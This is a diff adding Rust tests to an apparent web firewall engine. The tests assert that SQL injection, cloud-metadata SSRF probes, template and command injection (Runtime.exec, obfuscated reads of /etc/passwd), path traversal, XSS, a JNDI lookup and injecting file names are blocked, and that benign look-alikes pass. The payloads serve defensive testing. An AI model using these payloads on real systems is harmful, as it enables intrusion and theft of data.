@@ -1583,3 +1583,277 @@ fn vendor_structured_types_and_mixed_multipart_are_inspected() {
         assert_eq!(a.verdict, verdict, "{content_type}: {body} -> {a:?}");
     }
 }
+
+/// A JSON document carried as a value (a form field `data={...}`, a JSON string member, a
+/// multipart part of type `application/json`, a cookie): the application parses it and reads
+/// its leaves, where the document's own quotes delimit the strings, so an SQL statement in a
+/// leaf needs no quote break-out. Its leaves are inspected as values; documents whose leaves
+/// are prose, names with apostrophes or SQL words in a sentence pass.
+#[test]
+fn json_documents_carried_as_values() {
+    for doc in [
+        r#"{"name":"1 UNION SELECT password FROM users--"}"#,
+        r#"{"filter":{"id":"1 AND (SELECT 1 FROM (SELECT SLEEP(3))t)"}}"#,
+        r#"[{"op":"replace","path":"/name","value":"x; DROP TABLE users--"}]"#,
+        r#"{"items":[{"q":"-1 union all select null,version(),null"}]}"#,
+        r#"{"a":"{\"b\":\"1 UNION SELECT password FROM users--\"}"}"#,
+    ] {
+        each_carrier(doc, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {doc} -> {a:?}");
+        });
+    }
+    for doc in [
+        r#"{"title":"Select the best option","owner":"O'Brien"}"#,
+        r#"{"q":"how to select distinct values from a table in postgres","page":2}"#,
+        r#"[{"op":"replace","path":"/name","value":"Ann & Bob's shop"}]"#,
+        r#"{"filter":{"status":"active","tags":["sql","union types"]}}"#,
+        r#"{"comment":"It's 5' tall; order by size","ids":[1,2,3]}"#,
+        r#"{"msg":"Tom' or 'Jerry","bio":"I'm learning SQL: SELECT, FROM, WHERE"}"#,
+        r#"{"note":"Drop me a line; update the table","nested":"{\"k\":\"v\"}"}"#,
+    ] {
+        each_carrier(doc, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {doc} -> {a:?}");
+        });
+    }
+    let part = |json: &str| {
+        format!(
+            "--XyZ\r\nContent-Disposition: form-data; name=\"meta\"\r\nContent-Type: application/json\r\n\r\n{json}\r\n--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--XyZ--\r\n"
+        )
+    };
+    let multipart = "multipart/form-data; boundary=XyZ";
+    let a = body_request(
+        multipart,
+        &part(r#"{"title":"x","owner":"1 UNION SELECT password FROM users--"}"#),
+    );
+    assert_eq!(a.verdict, Verdict::Block, "{a:?}");
+    let a = body_request(
+        multipart,
+        &part(r#"{"title":"Q3 report","owner":"O'Brien","tags":["select","union"]}"#),
+    );
+    assert_eq!(a.verdict, Verdict::Allow, "{a:?}");
+    let a = header_request(
+        "cookie",
+        "prefs={\"sort\":\"1 UNION SELECT password FROM users--\"}",
+    );
+    assert_eq!(a.verdict, Verdict::Block, "{a:?}");
+}
+
+/// A cloud metadata URL in the `User-Agent` or `Referer`: applications fetch these headers'
+/// URLs (link previews, pingbacks, referrer resolvers) and no browser comes from such a page,
+/// so it is an SSRF probe in any notation; crawlers' own pages, development referrers and
+/// pages that merely name the address pass.
+#[test]
+fn metadata_urls_in_user_agent_and_referer() {
+    for (name, value) in [
+        ("user-agent", "http://169.254.169.254/latest/meta-data/"),
+        (
+            "user-agent",
+            "Mozilla/5.0 (compatible; Probe/1.0; +http://169.254.169.254/latest/meta-data/iam/)",
+        ),
+        ("user-agent", "curl/8.4.0 http://[fd00:ec2::254]/latest/"),
+        (
+            "referer",
+            "http://metadata.google.internal/computeMetadata/v1/instance/",
+        ),
+        ("referer", "http://0xa9fea9fe/latest/user-data"),
+        ("referer", "https://x@100.100.100.200:80/latest/meta-data/"),
+    ] {
+        let a = header_request(name, value);
+        assert_eq!(a.verdict, Verdict::Block, "{name}: {value:?} -> {a:?}");
+    }
+    for (name, value) in [
+        (
+            "user-agent",
+            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
+        ),
+        (
+            "user-agent",
+            "Mozilla/5.0 (compatible; Probe/1.0; +http://127.0.0.1/about.html)",
+        ),
+        ("referer", "http://localhost:3000/dashboard"),
+        ("referer", "http://192.168.1.20:8080/admin/settings"),
+        (
+            "referer",
+            "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
+        ),
+        (
+            "referer",
+            "https://blog.example/posts/what-is-169.254.169.254-and-why-imdsv2",
+        ),
+    ] {
+        let a = header_request(name, value);
+        assert_eq!(a.verdict, Verdict::Allow, "{name}: {value:?} -> {a:?}");
+    }
+}
+
+/// Bash's parameter expansions (`${#files[@]}`, `${v:+--verbose}`, `${arr[i+1]}`) hold `[`,
+/// `*` or `+` as array subscripts, glob patterns and operators, not template code; template
+/// expressions that compute (`${7*7}`, `${7777+1}`), walk objects (`${users[0].name}`,
+/// `${x[__class__]}`) or nest another expression in a default still count.
+#[test]
+fn shell_parameter_expansions_versus_template_expressions() {
+    for text in [
+        "${#arr[@]}",
+        "echo ${#files[@]} files",
+        "Count with ${#items[*]} and loop over ${!map[@]}",
+        "${v:+--verbose}",
+        "${arr[i+1]}",
+        "Use ${name^^} to upper-case and ${name,,} to lower-case",
+    ] {
+        each_carrier(text, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
+        });
+    }
+    for attack in [
+        "${7*7}",
+        "${7777+1}",
+        "${users[0].name}",
+        "${x[__class__]}",
+        "${a:-${7*7}}",
+        "${a:T(java.lang.Runtime).getRuntime().exec('id')}",
+    ] {
+        each_carrier(attack, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
+        });
+    }
+}
+
+/// Thymeleaf: a selection expression `*{...}` that computes or calls, and preprocessing
+/// `__${...}__` next to a fragment selector `::` (a view name taken from the request); a CSS
+/// universal rule and a JavaScript template literal building a dunder name pass. A value
+/// that is one backtick substitution of one program that is no English word (`` `id` ``)
+/// is the probe an injection echoes; the same name in a sentence's code span, or an English
+/// word quoted as a MySQL column, passes.
+#[test]
+fn thymeleaf_expressions_and_lone_substitutions() {
+    for attack in [
+        "*{7*7}",
+        "*{T(java.lang.Runtime).getRuntime().exec('id')}",
+        "__${param.lang}__::.x",
+        "__*{7*7}__::.x",
+        "home::__${x}__",
+        "`id`",
+        " `pwd` ",
+        "`uname`",
+    ] {
+        each_carrier(attack, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
+        });
+    }
+    for text in [
+        "*{margin:0;padding:0}",
+        "*{box-sizing:border-box}",
+        "**{bold}**",
+        "const key = `__${prefix}__`",
+        "Use `id` to print your uid",
+        "The `id` and `name` columns are required",
+        "`date`",
+        "`user_id`",
+    ] {
+        each_carrier(text, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
+        });
+    }
+}
+
+/// Written for `threat-precision8` from each family's grammar, in carriers the dev sets
+/// seldom use: MySQL versioned comments and mixed case, newline and `#` comments standing
+/// for spaces, quote-split and brace-expanded shell words, globbed paths, octal `printf`,
+/// double-encoded traversal in a path segment, attacks in XML elements and attributes and in
+/// cookies. Beside them, ordinary uploads and documents: an apostrophe inside a file name's
+/// word (`O'Brien's CV.pdf`; paranoia 2, as CRS 920121), non-ASCII file names, XML prose
+/// about SQL, Latin-1 and UTF-8 cookies.
+#[test]
+fn other_carriers_and_obfuscations_of_threat_precision8() {
+    for attack in [
+        "1/*!50000UnIoN*/ /*!50000SeLeCt*/ password FrOm users",
+        "-1' UNION#\nSELECT 1,2,3-- -",
+        "1' oR 1 LiKe 1-- -",
+        "c'a't /e't'c/pa's'swd",
+        "{cat,/etc/passwd}",
+        "a|/???/c?t /???/p??s??",
+        "$(printf '\\151\\144')",
+        "<svg><animate onbegin=alert(1) attributeName=x>",
+    ] {
+        each_carrier(attack, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
+        });
+    }
+    let engine = Config::default().compile().unwrap();
+    let host = vec![("host".to_string(), "files.example".to_string())];
+    for (path, verdict) in [
+        ("/static/..%252f..%252fetc%252fpasswd", Verdict::Block),
+        ("/a/%252e%252e/%252e%252e/etc/passwd", Verdict::Block),
+        ("/docs/how-to-select-from-union.html", Verdict::Allow),
+        ("/caf%C3%A9/men%FC.html", Verdict::Allow),
+    ] {
+        let a = engine.inspect(&Request::new("GET", path).with_headers(&host));
+        assert_eq!(a.verdict, verdict, "{path}: {a:?}");
+    }
+    let xml = "application/xml";
+    for (body, verdict) in [
+        (
+            "<order><note>1 UNION SELECT password FROM users--</note></order>",
+            Verdict::Block,
+        ),
+        ("<order note=\"x' or '1'='1\"/>", Verdict::Block),
+        (
+            "<a><b>&lt;svg onload=alert(1)&gt;</b></a>",
+            Verdict::Block,
+        ),
+        (
+            "<doc><title>SELECT statements explained</title><body>Use SELECT name FROM t to read rows; it's fast.</body></doc>",
+            Verdict::Allow,
+        ),
+        (
+            "<doc lang=\"de\"><t>Größe: 5 × 3 — Preis: 12 €</t></doc>",
+            Verdict::Allow,
+        ),
+    ] {
+        let a = body_request(xml, body);
+        assert_eq!(a.verdict, verdict, "{body}: {a:?}");
+    }
+    for (cookie, verdict) in [
+        (
+            "session=abc; pref=1%27%20UNION%20SELECT%20password%20FROM%20users--",
+            Verdict::Block,
+        ),
+        (
+            "theme=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
+            Verdict::Block,
+        ),
+        ("q=caf%E9; name=Se%F1or", Verdict::Allow),
+        (
+            "note=Tom%27s%20caf%C3%A9; tz=Europe%2FBerlin",
+            Verdict::Allow,
+        ),
+    ] {
+        let a = header_request("cookie", cookie);
+        assert_eq!(a.verdict, verdict, "{cookie}: {a:?}");
+    }
+    let upload = |filename: &str| {
+        format!(
+            "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{filename}\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\r\n--XyZ--\r\n"
+        )
+    };
+    let multipart = "multipart/form-data; boundary=XyZ";
+    for (filename, verdict) in [
+        ("O'Brien's CV.pdf", Verdict::Allow),
+        ("l'été 2024 – rapport (final).pdf", Verdict::Allow),
+        ("x' or '1'='1.pdf", Verdict::Block),
+        ("a';.pdf", Verdict::Block),
+        ("<svg onload=alert(1)>.pdf", Verdict::Block),
+    ] {
+        let a = body_request(multipart, &upload(filename));
+        assert_eq!(a.verdict, verdict, "{filename}: {a:?}");
+    }
+    let a = pl2_engine().inspect(
+        &Request::new("POST", "/upload")
+            .with_headers(&[
+                ("host".to_string(), "files.example".to_string()),
+                ("content-type".to_string(), multipart.to_string()),
+            ])
+            .with_body(upload("O'Brien's CV.pdf").as_bytes()),
+    );
+    assert_eq!(a.verdict, Verdict::Block, "{a:?}");
+}
